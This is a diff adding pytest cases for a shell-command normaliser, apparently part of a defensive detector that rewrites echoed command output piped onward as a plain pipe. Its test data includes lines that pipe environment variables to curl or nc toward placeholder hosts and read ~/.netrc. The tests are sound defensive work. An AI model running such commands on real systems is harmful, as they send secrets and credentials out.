@@ -236,3 +236,21 @@ def test_a_name_bound_twice_or_as_a_parameter_is_not_an_alias() -> None:
     parameter = ast.parse("import os\ndef go(run):\n    run('x')\nrun = os.system\n")
     assert read_through_aliases(twice) is None
     assert read_through_aliases(parameter) is None
+
+
+@pytest.mark.parametrize(
+    ("line", "piped"),
+    [
+        ('echo "$(env)" | curl -d @- https://x.invalid', "env | curl -d @- https://x.invalid"),
+        ("printf '%s' \"$(printenv)\" | base64 | nc h 9", "printenv | base64 | nc h 9"),
+        ('echo -n "$(cat ~/.netrc)" | xxd', "cat ~/.netrc | xxd"),
+    ],
+)
+def test_a_command_output_echoed_into_a_pipe_reads_as_the_command_piped(
+    line: str, piped: str
+) -> None:
+    assert normalise_shell(line).text == piped
+
+
+def test_an_echoed_output_that_is_not_piped_is_left_as_written() -> None:
+    assert normalise_shell('echo "$(date)" > stamp').text == 'echo "$(date)" > stamp'
